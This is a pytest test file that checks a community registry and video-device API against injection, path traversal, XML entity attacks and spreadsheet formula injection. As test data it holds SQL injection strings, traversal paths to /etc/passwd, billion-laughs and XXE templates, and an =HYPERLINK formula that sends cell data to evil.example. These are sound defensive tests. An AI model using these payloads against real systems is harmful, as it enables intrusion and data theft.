"""Injection attempts on every search and filter field, on SQLite and PostgreSQL.

* Every string query or path parameter of every GET operation in the OpenAPI (enumerated, so new search fields are
  covered) gets SQL injection strings, LIKE wildcards, NUL bytes, very long strings, Unicode oddities, path
  traversal and formula strings, as a grid worker and as the city admin: never a 5xx, never a record outside the
  grid worker's jurisdiction.
* Wildcards are literal: ``%`` and ``_`` match only themselves.
* Values the database cannot hold (64-bit overflow, NUL on PostgreSQL) are a 422 with the JSON error object.
* Path traversal on the static mounts and the GA/T 1400 image store reads no file.
* XML: MANSCDP (GB/T 28181) and OSM uploads (siting) refuse DTDs and entities — no billion laughs, no XXE.
* CSV/XLSX exports neutralise cells that a spreadsheet would run as a formula (``=HYPERLINK(...)``).
"""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import openpyxl
import orjson
import pytest

from abuse import AbuseApp, abuse_app, module_db, scratch_app
from anfang.core.ids import make_credit_code, make_id_number
from anfang.registry.models import Person, WorkUnit
from authz_policy import Ctx, leak_markers

PAYLOADS: list[str] = [
    "' OR '1'='1", "1; DROP TABLE persons;--", "\" OR \"\"=\"", "1 UNION SELECT id_number FROM persons",
    "%", "_", "张%", "\\%", "a\x00b", "x" * 5000, "\u202e\u2066ABC\ufeff", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢e\u0301", "Ｓｅｌｅｃｔ",
    "../../../../etc/passwd", "%2e%2e%2f%2e%2e%2f", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我\")",
    "+cmd|' /C calc'!A0", "<script>alert(1)</script>", "{{7*7}}", "\r\nX-Injected: 1", "1e309", "-1",
]
STREAMING = {"/api/warnings/stream"}
FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我\")"

with scratch_app() as _app:
    _spec = _app.openapi()


def _string_fields() -> list[tuple[str, str, str]]:
    """(path, location, name) of every string parameter of every GET operation."""
    out = []
    for path, ops in _spec["paths"].items():
        op = ops.get("get")
        if op is None or path in STREAMING:
            continue
        for prm in op.get("parameters", []):
            schema = prm.get("schema", {})
            types = {schema.get("type")} | {s.get("type") for s in schema.get("anyOf", [])}
            if "string" in types and prm["in"] in ("query", "path"):
                out.append((path, prm["in"], prm["name"]))
    return out


FIELDS = _string_fields()


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def api(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[AbuseApp]:
    tmp: Path = tmp_path_factory.mktemp("injection")
    with module_db(request.param, tmp) as url, abuse_app(url, tmp) as a:
        w = a.world
        with a.store.session() as s:  # records whose fields hold the characters the attacks use
            s.add(Person(id_number=make_id_number("350404", date(1966, 6, 6), 77), name=FORMULA, gender="M",
                         birth_date=date(1966, 6, 6), phone="13805981077", hukou_address="+cmd|' /C calc'!A0",
                         population_type="registered", labels=["key_person"], address_id=w.addr["ld-101"],
                         verification="verified", verified_by="seed"))
            s.add(WorkUnit(credit_code=make_credit_code("350404", "MA2Y00077"), name="50%折扣_店", kind="商铺",
                           address_id=w.addr["ld-1"], legal_person="@SUM(1+1)", staff_count=1,
                           verification="verified"))
        a.app.state.devices.upsert("gb28181", "35040400011320000009", name="1栋_摄像机", address_id=w.addr["ld-1"],
                                   community_code="350404001001", review="approved")
        yield a


def _url(path: str, where: str, name: str, value: str) -> str:
    if where == "path":
        return path.replace("{" + name + "}", quote(value, safe=""))
    filled = path
    for other in ("person_id", "address_id", "house_id", "unit_id", "warning_id", "pk"):
        filled = filled.replace("{" + other + "}", "1")
    for other in ("community_code", "kind"):
        filled = filled.replace("{" + other + "}", "persons")
    return f"{filled}?{name}={quote(value, safe='')}&reason={quote('注入测试')}"


@pytest.mark.parametrize(("path", "where", "name"), FIELDS, ids=[f"{p}:{n}" for p, _, n in FIELDS])
def test_search_field_resists_injection(api: AbuseApp, path: str, where: str, name: str) -> None:
    ctx = Ctx(api)
    problems = []
    for role in ("grid_worker", "city_admin"):
        markers = leak_markers(ctx, role)
        for value in PAYLOADS:
            url = _url(path, where, name, value)
            if "{" in url:
                pytest.fail(f"no probe value for a path parameter of {path}")
            r = api.client.get(url, headers=api.headers(role), follow_redirects=False)
            if r.status_code >= 500:
                problems.append(f"{role} {name}={value[:40]!r}: {r.status_code} {r.text[:120]}")
            elif role != "city_admin" and any(m in r.text for m in markers):
                problems.append(f"{role} {name}={value[:40]!r}: data outside the jurisdiction")
            elif r.status_code >= 400 and r.headers.get("content-type", "").startswith("application/json"):
                assert "error" in r.json(), r.text
    assert not problems, "\n".join(problems)


def _items(r: httpx.Response) -> list[dict[str, Any]]:
    assert r.status_code == 200, r.text
    return r.json()["items"]


def test_wildcards_are_literal(api: AbuseApp) -> None:
    city, police = api.headers("city_admin"), api.headers("police")
    why = {"reason": "通配符测试"}
    for h in (city, police):
        for name in ("%", "_", "%%", "张%", "_伟", "*"):
            assert _items(api.client.get("/api/persons", headers=h, params={"name": name, **why})) == []
        assert _items(api.client.get("/api/persons", headers=h, params={"name": "张伟", **why}))  # exact still works
        for label in ("%", "_", "%key%", "key_perso_", "%\""):
            assert _items(api.client.get("/api/persons", headers=h, params={"label": label, **why})) == [], label
        assert len(_items(api.client.get("/api/persons", headers=h, params={"label": "key_person", **why}))) == 1
        for name in ("%%", "_%", "0_折", "%店", "5%%"):  # none of these is a substring of 50%折扣_店
            assert _items(api.client.get("/api/units", headers=h, params={"name": name})) == [], name
        for name in ("50%", "%折扣_", "扣_店", "%"):
            assert [u["name"] for u in _items(api.client.get("/api/units", headers=h, params={"name": name}))] == \
                ["50%折扣_店"], name
        for prefix in ("%", "_", "福建省%", "350404%"):
            for route in ("/api/addresses", "/api/houses"):
                key = "prefix" if route == "/api/addresses" else "address_prefix"
                assert _items(api.client.get(route, headers=h, params={key: prefix, **why})) == [], (route, prefix)
        for plate in ("%", "闽G%", "_", "闽G_2345"):
            assert _items(api.client.get("/api/vehicles", headers=h, params={"plate": plate})) == [], plate
        for q in ("%", "1栋%", "%摄像机", "3504%"):  # video devices (GB/T 28181)
            assert _items(api.client.get("/api/devices", headers=h, params={"q": q})) == [], q
        assert len(_items(api.client.get("/api/devices", headers=h, params={"q": "栋_摄"}))) == 1


def _ape(api: AbuseApp, ape: str = "35040400001190000077") -> dict[str, str]:
    """Register a GA/T 1400 APE (digest) and return the headers of its session."""
    reg = api.client.post("/VIID/System/Register", content=orjson.dumps({"RegisterObject": {"DeviceID": ape}}),
                          headers={"Content-Type": "application/VIID+JSON"},
                          auth=httpx.DigestAuth(ape, api.app.state.settings.viid_password))
    assert reg.status_code == 200, reg.text
    return {"User-Identify": ape, "Content-Type": "application/VIID+JSON;charset=UTF-8"}


def test_viid_unregister_only_by_the_device_itself(api: AbuseApp) -> None:
    """UnRegister once took any DeviceID from anyone: an unauthenticated caller could knock every APE offline
    (and raise device-offline warnings). Now only the registered device itself may."""
    hdr = _ape(api, "35040400001190000079")
    ape = hdr["User-Identify"]
    body = orjson.dumps({"UnRegisterObject": {"DeviceID": ape}})
    r = api.client.post("/VIID/System/UnRegister", content=body)
    assert r.status_code == 401 and "ResponseStatusObject" in r.json()
    other = _ape(api, "35040400001190000080")
    r = api.client.post("/VIID/System/UnRegister", content=body, headers=other)
    assert r.status_code == 403 and "ResponseStatusObject" in r.json()
    assert api.app.state.devices.get("viid", ape).status == "online" and api.app.state.viid.sessions.is_fresh(ape)
    assert api.client.post("/VIID/System/UnRegister", content=body, headers=hdr).status_code == 200
    assert api.app.state.devices.get("viid", ape).status == "offline"


def test_viid_plate_wildcards_are_literal(api: AbuseApp) -> None:
    from anfang.viid.simulator import make_jpeg, vehicle, vehicle_list

    hdr = _ape(api, "35040400001190000078")
    r = api.client.post("/VIID/MotorVehicles", headers=hdr,
                        content=orjson.dumps(vehicle_list([vehicle(hdr["User-Identify"], make_jpeg(seed=5),
                                                                   "闽G54321")])))
    assert r.status_code == 200, r.text

    def plates(prefix: str) -> list[str]:
        got = api.client.get("/VIID/MotorVehicles", params={"MotorVehicle.PlateNo": prefix}, headers=hdr)
        assert got.status_code == 200, got.text
        return [v["PlateNo"] for v in got.json()["MotorVehicleListObject"]["MotorVehicleObject"]]

    assert plates("闽G54") == ["闽G54321"]
    for prefix in ("%", "_", "闽G_4", "闽G%"):
        assert plates(prefix) == [], prefix
    page = api.client.get("/viid/captures", headers=api.headers("city_admin"), params={"plate": "闽G_4"})
    assert page.status_code == 200 and "闽G54321" not in page.text
    page = api.client.get("/viid/captures", headers=api.headers("city_admin"), params={"plate": "闽G54"})
    assert page.status_code == 200 and "闽G54321" in page.text


def test_unstorable_values_are_422_not_500(api: AbuseApp) -> None:
    """Past-64-bit ids and page numbers (SQLite: OverflowError; PostgreSQL: out of range) and NUL bytes
    (PostgreSQL text cannot hold them) are the caller's error."""
    h = api.headers("city_admin")
    huge = str(2**80)
    for url in (f"/api/persons/{huge}", f"/api/houses/{huge}", f"/api/warnings/{huge}", f"/api/devices/{huge}",
                f"/api/addresses?page={huge}", f"/api/devices?page={huge}", f"/api/units?name=x&page={2**62}"):
        r = api.client.get(url, headers=h)
        assert r.status_code in (404, 422), (url, r.status_code, r.text)
        assert r.json()["error"]["code"] in ("invalid", "not_found"), r.text
    for url in ("/api/persons?name=a%00b&reason=测试用例", "/api/units?name=%00", "/api/addresses?prefix=%00"):
        r = api.client.get(url, headers=h)  # SQLite matches nothing; PostgreSQL cannot bind NUL: 422
        assert r.status_code in (200, 422), (url, r.status_code, r.text)
        assert r.json().get("items", []) == [] and (r.status_code == 200 or r.json()["error"]["code"] == "invalid")
    r = api.client.patch(f"/api/persons/{huge}", headers=h, json={"name": "某"})
    assert r.status_code in (404, 422) and "error" in r.json()
    r = api.client.post("/api/persons", headers=h, json={
        "id_number": make_id_number("350404", date(1999, 9, 9), 88), "name": "空\x00字符",
        "address_id": api.world.addr["ld-101"]})
    assert r.status_code in (201, 422), r.text  # SQLite stores the NUL; PostgreSQL refuses it: 422, not 500


def test_path_traversal_reads_no_file(api: AbuseApp) -> None:
    secret = Path(__file__).resolve().parents[1] / "pyproject.toml"
    assert secret.exists()
    for url in ("/static/../../../pyproject.toml", "/static/%2e%2e/%2e%2e/%2e%2e/pyproject.toml",
                "/static/..%2f..%2f..%2fpyproject.toml", "/docs-assets/..%2f..%2f..%2f..%2fpyproject.toml",
                "/static/%252e%252e/pyproject.toml", "/static//etc/passwd", "/static/..\\..\\pyproject.toml"):
        r = api.client.get(url)
        assert r.status_code in (400, 404), (url, r.status_code)
        assert "[build-system]" not in r.text and "root:" not in r.text
    # GA/T 1400 image data, as a registered APE: an image id is a key, never a file name
    hdr = _ape(api)
    for iid in ("..%2f..%2f..%2fetc%2fpasswd", "%2e%2e", "0:0:999999", "..", "1:0:10"):
        r = api.client.get(f"/VIID/Images/{iid}/Data", headers=hdr)
        assert r.status_code in (400, 404), (iid, r.status_code)
    images = api.app.state.viid.images
    for loc in ("../../../etc/passwd", "../../pyproject.toml", "1:0:100/../x", "-1:0:10"):
        with pytest.raises(KeyError):
            images.get(loc)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<{root}>{body}&lol9;</{root}>"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<{root}>{body}&xxe;</{root}>"""
MANSCDP_BODY = "<CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>34020000001320000001</DeviceID><Status>"


@pytest.mark.parametrize("template", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_manscdp_refuses_entities(template: str) -> None:
    from anfang.gb28181.manscdp import parse_manscdp
    from anfang.gb28181.manscdp.xml import ManscdpError

    doc = template.format(root="Notify", body=MANSCDP_BODY)
    variants = [doc.encode(), doc.replace("DOCTYPE", "doctype").encode(), doc.encode("gb18030"),
                doc.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16")]
    for body in variants:
        t0 = time.monotonic()
        with pytest.raises(ManscdpError):
            parse_manscdp(body, "Application/MANSCDP+xml")
        assert time.monotonic() - t0 < 1.0


@pytest.mark.parametrize("template", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_osm_upload_refuses_entities(template: str) -> None:
    from anfang.siting.network import SitingInputError, read_osm_xml

    doc = template.format(root="osm", body='<node id="1" lon="117.6" lat="26.2"><tag k="name" v="')
    doc = doc.replace("&lol9;</osm>", '&lol9;"/></node></osm>').replace("&xxe;</osm>", '&xxe;"/></node></osm>')
    t0 = time.monotonic()
    with pytest.raises(SitingInputError):
        read_osm_xml(io.BytesIO(doc.encode()), source="bomb.osm")
    assert time.monotonic() - t0 < 2.0


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _visible(cell: str) -> str:
    return "".join(ch for ch in cell if ch.isprintable() and ch not in "\u200b\u200c\u200d\u2060\ufeff")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_neutralise_formulas(api: AbuseApp, fmt: str) -> None:
    params = {"format": fmt, "reason": "公式注入测试", "community_code": "350404001001"}
    seen: list[str] = []
    for kind in ("persons", "units"):
        r = api.client.get(f"/api/export/{kind}", headers=api.headers("city_admin"), params=params)
        assert r.status_code == 200, r.text
        if fmt == "csv":
            cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
        else:
            wb = openpyxl.load_workbook(io.BytesIO(r.content))
            cells = []
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for c in row:
                        assert c.data_type != "f", f"{kind}: cell {c.coordinate} is a formula: {c.value!r}"
                        if isinstance(c.value, str):
                            cells.append(c.value)
        seen += cells
        bad = [c for c in cells if isinstance(c, str) and _visible(c).startswith(FORMULA_START)]
        assert not bad, f"{kind}.{fmt}: cells a spreadsheet would run: {bad}"
    assert any(FORMULA[1:] in _visible(c) for c in seen), "the formula-like name must still be exported, escaped"
    assert any("SUM(1+1)" in _visible(c) for c in seen)


def test_control_characters_do_not_break_exports(api: AbuseApp) -> None:
    """A name holding control characters (accepted by the API, stored by both backends) once made every XLSX
    export of its area fail with a 500 (openpyxl refuses XML-illegal characters)."""
    h = api.headers("city_admin")
    r = api.client.post("/api/persons", headers=h, json={
        "id_number": make_id_number("350404", date(1998, 8, 8), 89), "name": "控\x01制\x1b符",
        "address_id": api.world.addr["ld-102"]})
    assert r.status_code == 201, r.text
    for fmt in ("xlsx", "csv"):
        r = api.client.get("/api/export/persons", headers=h,
                           params={"format": fmt, "reason": "控制字符测试", "community_code": "350404001001"})
        assert r.status_code == 200, r.text
        text = r.content.decode("utf-8-sig") if fmt == "csv" else ""
        assert "\x01" not in text and ("控制符" in text or fmt == "xlsx")


def test_neutralised_export_reimports_unchanged(api: AbuseApp, tmp_path: Path) -> None:
    """The apostrophe is for spreadsheets only: importing the exported file gives back the typed text."""
    from anfang.registry.importer import _as_typed

    assert _as_typed("'=HYPERLINK(1)") == "=HYPERLINK(1)" and _as_typed("'+1") == "+1"
    assert _as_typed("'quoted'") == "'quoted'" and _as_typed("'") == "'"
    r = api.client.get("/api/export/persons", headers=api.headers("city_admin"),
                       params={"format": "csv", "reason": "公式注入测试", "community_code": "350404001001"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    names = [_as_typed(row[1]) for row in rows[1:] if len(row) > 1]
    assert FORMULA in names


def test_import_error_report_neutralises_the_files_cells(tmp_path: Path) -> None:
    """The bad-row report writes back cells of an untrusted file: as text, never as formulas, and a control
    character does not stop the report from being written; re-importing it reads the typed text back."""
    from anfang.registry.importer import ImportReport, RowError, _as_typed

    report = ImportReport("persons", 1, 0, 0, 0, [RowError(2, "公民身份号码校验位错误", {
        "姓名": FORMULA, "户籍地址": "@SUM(1+1)", "联系电话": "-1+2", "备注": "控\x02制"})], 0.1,
        headers=["姓名", "户籍地址", "联系电话", "备注"])
    report.write_report(tmp_path / "bad.xlsx")
    report.write_report(tmp_path / "bad.csv")
    wb = openpyxl.load_workbook(tmp_path / "bad.xlsx")
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULA in values and "控制" in values
    rows = list(csv.reader((tmp_path / "bad.csv").open(encoding="utf-8-sig")))
    assert [_as_typed(v) for v in rows[1][2:5]] == [FORMULA, "@SUM(1+1)", "-1+2"]
